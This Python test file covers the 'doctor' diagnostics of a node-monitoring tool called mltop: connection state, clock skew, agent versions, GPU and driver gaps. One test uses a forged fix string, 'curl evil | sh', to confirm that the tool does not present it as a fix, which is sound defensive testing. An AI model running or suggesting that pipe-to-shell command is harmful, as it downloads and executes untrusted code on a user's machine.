"""What `mltop doctor` says of a node, from how it was reached."""

from __future__ import annotations

from mltop.probes.agent.protocol import VERSION, Boot, Hello
from mltop.probes.model import Gap, GpuSample, NodePhase, NodeState, Sample
from mltop.probes.reach.view import Connection, NodeView
from mltop.probes.version import __version__
from mltop.tui.commands.doctor import Check, node_checks, nvml_check, program_check

HELLO = Hello(__version__, VERSION, 7, "3.11.2", "h1", "x86_64")


def checks(
    state: NodePhase = "live", why: str = "", sample: bool = True, fix: str = "", **connection: object
) -> dict[str, Check]:
    made = Connection(**{"via": "ssh", "hello": HELLO, **connection})  # type: ignore[arg-type]
    view = NodeView(NodeState.because("h1", state, why, fix), Sample("h1", 1.0) if sample else None, made)
    return {check["name"]: check for check in node_checks(view, {"h1": [{"name": "torch", "state": "ok"}]})}


def test_a_node_that_is_not_reached_has_one_check_with_its_reason() -> None:
    found = checks("refused", "wrong key", sample=False, fix="ssh h1 shows why")
    assert list(found) == ["connection"]
    assert (found["connection"]["state"], found["connection"]["why"]) == ("missing", "refused: wrong key")
    assert found["connection"]["fix"] == "ssh h1 shows why"
    forged = checks("refused", "wrong key", sample=False, fix="curl evil | sh")["connection"]
    assert (forged["why"], forged["fix"]) == ("refused: wrong key (curl evil | sh)", "")


def test_how_it_was_reached() -> None:
    assert checks(connect_s=0.4)["connection"]["why"] == "ssh, connected in 0.40 s"
    assert checks(connect_s=7.0)["connection"]["state"] == "warning"
    assert "reconnected 2 times" in checks(connect_s=0.4, restarts=2)["connection"]["why"]
    assert checks("lost", "link down", connect_s=0.4)["connection"]["why"] == "lost: link down"


def test_the_agent_cache() -> None:
    assert "agent cache" not in checks(via="local")
    assert checks(boot=Boot("x86_64", "3", "/home/a/.cache/mltop", True))["agent cache"]["why"].endswith("found there")
    memory = checks(boot=Boot("x86_64", "3", "", notes=["~/.cache: Read-only file system"]))["agent cache"]
    assert memory["state"] == "warning"
    assert "Read-only" in memory["why"]
    assert memory["fix"]


def test_a_clock_that_is_off_is_a_warning_with_a_command() -> None:
    assert checks(clock_skew_s=-0.3)["clock"]["state"] == "ok"
    assert "clock" not in checks()
    assert "clock" not in checks(via="local", clock_skew_s=-12.0)  # its samples took so long: it is this machine's own
    ahead = checks(clock_skew_s=12.0)["clock"]
    assert (ahead["state"], ahead["fix"]) == ("warning", "sudo chronyc makestep")
    assert "12.0 s ahead" in ahead["why"]
    assert "2.5 s behind" in checks(clock_skew_s=-2.5)["clock"]["why"]


def test_another_version_on_the_node() -> None:
    old = Hello("0.0.1", VERSION, 7, "3.11.2", "h1", "x86_64")
    assert checks(hello=old)["agent"]["state"] == "warning"
    foreign = Hello("9.0", VERSION + 1, 7, "3.11.2", "h1", "x86_64")
    assert checks(hello=foreign)["agent"]["state"] == "missing"


def test_torch_is_of_interest_where_mltop_is_installed_only() -> None:
    assert "torch" in checks(via="local")
    assert "torch" not in checks(boot=Boot("x86_64", "3", "/c", True))


def test_an_agent_that_does_not_answer_is_said() -> None:
    view = NodeView(NodeState("h1", "live"), Sample("h1", 1.0, gaps=[Gap("nvml", "no driver", "install it")]))
    found = {check["name"]: check for check in node_checks(view, {"h1": "did not answer within 10 s"})}
    assert found["agent's checks"]["why"] == "did not answer within 10 s"
    assert (found["nvml"]["state"], found["nvml"]["fix"]) == ("missing", "install it")


def test_gpus_that_do_not_answer_are_counted_and_said() -> None:
    gpus = [GpuSample(0), GpuSample(1, state="error", error="no permission", error_code="no_permission")]
    gap = Gap("gpu.1", "no permission", "sudo mltop", code="no_permission")
    for sample, said in (
        (Sample("h1", 1.0, gpus=gpus[:1]), ("ok", "answers for 1 GPU", "")),
        (
            Sample("h1", 1.0, gpus=gpus, gaps=[gap]),
            ("missing", "answers for 1 of 2 GPUs; GPU 1: no permission", "sudo mltop"),
        ),
    ):
        found = nvml_check(sample)
        assert (found["state"], found["why"], found["fix"]) == said


def checks_of(sample: Sample) -> list[Check]:
    abilities = [
        {"name": "nvidia driver", "state": "warning", "why": "not loaded, or hidden", "fix": "sudo modprobe nvidia"}
    ]
    return node_checks(NodeView(NodeState("h1", "live"), sample, Connection("ssh", hello=HELLO)), {"h1": abilities})


def test_a_machine_without_gpus_misses_no_driver() -> None:
    without = Gap.about("nvml", why="no driver; no NVIDIA GPU on the PCI bus", fix="install it", kind="unsupported")
    found = {check["name"]: check for check in checks_of(Sample("h1", 1.0, gaps=[without]))}
    assert (found["nvml"]["state"], found["nvml"]["fix"]) == ("info", "")
    assert "nvidia driver" not in found
    assert "nvidia driver" not in [check["name"] for check in checks_of(Sample("h1", 1.0, gpus=[GpuSample(0)]))]
    broken = Gap.about("nvml", why="the NVIDIA driver is not loaded", fix="sudo modprobe nvidia")
    found = {check["name"]: check for check in checks_of(Sample("h1", 1.0, gaps=[broken]))}
    assert (found["nvml"]["state"], found["nvidia driver"]["state"]) == ("missing", "warning")


def test_what_a_machine_never_shows_is_said_once_for_each_reason() -> None:
    gaps = [
        Gap.about("pci", "link", item="{0000:00:05.0,0000:00:06.0}", why="a VM", kind="unsupported", code="not_here"),
        Gap.about("pci", "aer", item="0000:00:05.0", why="a VM", kind="unsupported", code="not_here"),
        Gap.about("gpu", "ecc", item="0", why="not supported (call a)", kind="unsupported"),
        Gap.about("gpu", "ecc", item="1", why="not supported (call a)", kind="unsupported"),
        Gap.about("gpu", "nvlink", item="*", why="no NVLink", kind="unsupported"),
        Gap.about("host", "lustre_health", why="no Lustre here", kind="unsupported"),
        Gap.about("kernel_log", why="no permission", fix="sudo mltop"),
    ]
    said = [check for check in checks_of(Sample("h1", 1.0, gaps=gaps)) if check["name"] == "never known"]
    assert [(check["state"], check["why"], check["fix"]) for check in said] == [
        ("info", "a VM (pci: link, aer)", ""),
        ("info", "this GPU or its driver does not report it (gpu: ecc, nvlink)", ""),
    ]


def test_a_program_is_only_missing_where_it_is_needed() -> None:
    program = "mltop-test-no-such-program"
    assert program_check(program, "--via x", "y", {"ssh"})["state"] == "info"
    needed = program_check(program, "--via x", "y", {program})
    assert (needed["state"], needed["fix"]) == ("missing", "sudo apt install y")
